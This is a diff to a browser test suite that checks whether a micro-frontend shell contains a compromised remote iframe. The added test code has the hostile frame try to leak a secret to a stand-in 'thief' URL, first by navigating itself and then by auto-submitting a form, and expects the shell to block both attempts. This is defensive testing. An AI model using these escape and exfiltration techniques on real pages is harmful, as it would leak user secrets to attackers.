@@ -103,8 +103,11 @@ describe('a compromised remote', () => {
     const entry = team.entry({ trust: 'foreign', routes: ['GET /profile'] });
     await addRemote(await registryAt(place), entry);
     const { page, close } = await openHostile('/clubs');
-    await page.frameLocator('#main iframe').getByRole('heading', { name: 'Hostile' }).waitFor();
-    const frame = page.frames().find((each) => each !== page.mainFrame())!;
+    const hostile = async () => {
+      await page.frameLocator('#main iframe').getByRole('heading', { name: 'Hostile' }).waitFor();
+      return page.frames().find((each) => each !== page.mainFrame())!;
+    };
+    const frame = await hostile();
     const outcomes = await frame.evaluate(
       () => (globalThis as unknown as { hostile: Promise<Record<string, string>> }).hostile,
     );
@@ -134,10 +137,16 @@ describe('a compromised remote', () => {
     // the frame alone goes, and the shell takes it away
     await frame.evaluate((url) => void (top!.location.href = url), `${thiefUrl}/top`).catch(() => undefined);
     await frame.evaluate((url) => void window.open(`${url}/window`), thiefUrl);
-    await frame
-      .evaluate((url) => void (location.href = url), `${thiefUrl}/self?secret`)
-      .catch(() => undefined);
-    await page.locator('.remote-failure[data-code=remote_crashed]').waitFor();
+    const leaves = [
+      (url: string) => void (location.href = url),
+      (action: string) =>
+        document.body.appendChild(Object.assign(document.createElement('form'), { action })).submit(),
+    ];
+    for (const leave of leaves) {
+      await (await hostile()).evaluate(leave, `${thiefUrl}/self?secret`).catch(() => undefined);
+      await page.locator('.remote-failure[data-code=remote_crashed]').waitFor();
+      await page.reload();
+    }
     expect(new URL(page.url()).pathname).toBe('/clubs');
     expect(arrived).toEqual([]);
     await close();
